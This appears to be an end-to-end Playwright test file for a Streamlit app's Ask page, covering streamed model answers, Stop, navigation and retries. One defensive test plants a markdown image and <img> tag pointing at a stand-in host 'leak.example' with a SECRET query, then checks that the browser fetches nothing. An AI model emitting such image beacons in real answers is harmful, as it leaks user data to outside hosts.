"""A person's path through the Ask page, in a real browser against the running app."""

from __future__ import annotations

import re
import time

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import current, running_app, screenshot, wait_idle

pytestmark = pytest.mark.e2e

WORDS = [f"word{i:03d}" for i in range(200)]
LONG_REPLY = " ".join(WORDS)


def answer_text(page: Page) -> str:
    return page.locator(".st-key-ask-answer").inner_text().replace("▌", "").strip()


def upload(page: Page, path) -> None:
    page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(str(path))
    expect(page.locator("video")).to_have_count(1, timeout=15_000)
    wait_idle(page)


def ask(page: Page, prompt: str) -> None:
    page.get_by_label("Prompt", exact=True).fill(prompt)
    page.get_by_role("button", name="Run", exact=True).click()


def upload_and_ask(page: Page, video_path, prompt: str) -> None:
    upload(page, video_path)
    ask(page, prompt)


def test_streamed_answer_grows_and_stop_keeps_the_partial_text(page: Page, vertex, video_file):
    vertex.set_reply(LONG_REPLY, chunks=200, chunk_delay=0.04)  # about 8 s in all
    upload_and_ask(page, video_file, "List what you see.")

    expect(page.locator(".st-key-ask-answer")).to_contain_text("word005", timeout=15_000)
    first = len(answer_text(page))
    page.wait_for_timeout(600)
    second = len(answer_text(page))
    assert second > first > 0, "the answer should grow while it streams"

    pressed = time.time()
    page.get_by_test_id("stMainBlockContainer").get_by_role(
        "button", name="Stop", exact=True
    ).click()
    expect(page.get_by_text("Stopped by you.")).to_be_visible(timeout=10_000)
    wait_idle(page)
    kept = answer_text(page)
    screenshot(page, "ask-stopped")

    assert kept and LONG_REPLY.startswith(kept)
    assert len(kept) < len(LONG_REPLY), "Stop should end the stream before the last word"
    request = vertex.last_request("streamGenerateContent")
    assert request.answer.wait(timeout=1) and request.answer.how == "client_closed"
    assert request.answer.ended_at - pressed < 1.0, "Stop closes the stream within 1 s"
    assert request.parts[0]["inlineData"]["mimeType"] == "video/mp4"
    assert request.parts[-1]["text"] == "List what you see."
    page.wait_for_timeout(500)
    assert answer_text(page) == kept, "nothing more arrives after Stop"


def test_complete_answer_shows_usage_and_timings(page: Page, vertex, video_file):
    reply = "Red, then green, then blue."
    vertex.set_reply(reply, chunks=3, chunk_delay=0.05)
    upload_and_ask(page, video_file, "Which colours?")
    expect(page.locator(".st-key-ask-answer")).to_have_text(reply, timeout=15_000)
    wait_idle(page)
    metrics = page.locator('[data-testid="stMetric"]')
    expect(metrics.filter(has_text="Finish")).to_contain_text("STOP")
    expect(metrics.filter(has_text="Time to first token")).to_contain_text(
        re.compile(r"\d\.\d\d s")
    )
    screenshot(page, "ask-complete")


def test_a_deep_link_on_a_fresh_server_opens_inside_the_app(browser, app_env, tmp_path):
    # The first script run of a server is the one Streamlit may run in its legacy mode.
    with running_app(app_env, tmp_path / "server.log") as url:
        page = browser.new_page()
        page.goto(f"{url}/models")
        wait_idle(page)
        expect(page.get_by_role("heading", name="Models")).to_be_visible()
        expect(page.get_by_test_id("stSidebar")).to_contain_text("Connection")
        expect(page.get_by_test_id("stSidebarNav")).to_contain_text("Ask")
        expect(page.get_by_text("Page not found")).to_have_count(0)
        page.close()


def test_moving_a_slider_mid_stream_leaves_the_answer_growing(page: Page, vertex):
    vertex.set_reply(LONG_REPLY, chunks=200, chunk_delay=0.03)  # about 6 s in all
    ask(page, "Count to two hundred.")
    expect(page.locator(".st-key-ask-answer")).to_contain_text("word010", timeout=15_000)

    slider = page.get_by_role("slider").first  # Temperature on the default model
    slider.focus()
    page.keyboard.press("ArrowLeft")
    page.keyboard.press("ArrowLeft")
    page.get_by_label("Prompt", exact=True).fill("An edit while it streams")
    moved_at = len(answer_text(page))

    expect(page.locator(".st-key-ask-answer")).to_contain_text("word199", timeout=20_000)
    wait_idle(page)
    assert answer_text(page) == LONG_REPLY and moved_at < len(LONG_REPLY)
    expect(page.get_by_text("Stopped")).to_have_count(0)
    answer = vertex.last_request().answer
    assert answer.wait(5) and answer.how == "complete"


def test_a_markdown_image_in_the_answer_makes_no_request(page: Page, vertex):
    leak = "https://leak.example/pixel.png?d=SECRET"
    reply = f"Here is the chart: ![chart]({leak}) and <img src='{leak}'> done."
    vertex.set_reply(reply, chunks=3)
    fetched: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))
    ask(page, "Show me")
    expect(page.locator(".st-key-ask-answer")).to_contain_text("done.", timeout=15_000)
    wait_idle(page)
    page.wait_for_timeout(500)
    assert not [url for url in fetched if "leak.example" in url]
    assert page.locator(".st-key-ask-answer img").count() == 0
    expect(page.locator(".st-key-ask-answer")).to_contain_text("chart")


def test_an_upload_survives_a_visit_to_another_page(page: Page, vertex, video_file):
    upload(page, video_file)
    page.get_by_test_id("stSidebarNav").get_by_text("Models").click()
    wait_idle(page)
    page.get_by_test_id("stSidebarNav").get_by_text("Ask").click()
    wait_idle(page)
    expect(page.locator("video")).to_have_count(1, timeout=10_000)
    ask(page, "Still there?")
    expect(page.locator(".st-key-ask-answer")).to_contain_text("The video shows", timeout=15_000)
    assert vertex.last_request().parts[0]["inlineData"]["mimeType"] == "video/mp4"


def test_run_is_disabled_while_the_answer_streams_and_enabled_after_stop(page: Page, vertex):
    vertex.set_reply(LONG_REPLY, chunks=200, chunk_delay=0.04)
    ask(page, "First question")
    expect(page.locator(".st-key-ask-answer")).to_contain_text("word003", timeout=15_000)
    run = current(page).get_by_role("button", name="Run", exact=True)
    expect(run).to_be_disabled()
    # One Run, drawn once: a second one drawn over it stayed in the page, stale, for the whole
    # stream, and the row moved under the pointer when it went (components/common/clicks.py).
    main = page.get_by_test_id("stMainBlockContainer")
    runs_in_page = main.evaluate(
        "(main) => [...main.querySelectorAll('button')]"
        ".filter((b) => b.textContent.trim() === 'Run').length"
    )
    assert runs_in_page == 1
    main.get_by_role("button", name="Stop", exact=True).click()
    expect(page.get_by_text("Stopped by you.")).to_be_visible(timeout=10_000)
    expect(run).to_be_enabled()
    vertex.set_reply("The second answer.", chunks=2)
    run.click()
    expect(page.locator(".st-key-ask-answer")).to_have_text("The second answer.", timeout=15_000)
    assert len(vertex.requests) == 2


def test_a_visit_to_another_page_mid_stream_leaves_the_run_going(page: Page, vertex):
    vertex.set_reply(LONG_REPLY, chunks=200, chunk_delay=0.03)  # about 6 s in all
    ask(page, "Count to two hundred.")
    expect(page.locator(".st-key-ask-answer")).to_contain_text("word005", timeout=15_000)
    nav = page.get_by_test_id("stSidebarNav")
    nav.get_by_text("Models").click()
    expect(page.get_by_role("heading", name="Models")).to_be_visible()
    nav.get_by_text("Ask").click()
    expect(page.locator(".st-key-ask-answer")).to_contain_text("word199", timeout=20_000)
    wait_idle(page)
    assert answer_text(page) == LONG_REPLY
    expect(page.get_by_text("Stopped")).to_have_count(0)
    answer = vertex.last_request().answer
    assert answer.wait(5) and answer.how == "complete"
    assert len(vertex.requests) == 1


def test_a_new_runs_retries_show_nothing_of_the_last_runs_figures(page: Page, vertex):
    vertex.set_reply("The first answer.", chunks=2)
    ask(page, "First question")
    expect(page.get_by_text("Time to first token")).to_be_visible(timeout=15_000)
    wait_idle(page)
    vertex.fail(429, times=1)  # the next run waits a second, retrying
    vertex.set_reply("The second answer.", chunks=2)
    page.get_by_role("button", name="Run", exact=True).click()
    expect(page.get_by_text("Retrying in")).to_be_visible(timeout=10_000)
    # Not merely dimmed: the last run's metrics and figures are no longer on the page.
    expect(page.get_by_text("Time to first token")).to_have_count(0)
    expect(page.get_by_text("The first answer.")).to_have_count(0)
    expect(page.locator(".st-key-ask-answer")).to_have_text("The second answer.", timeout=15_000)
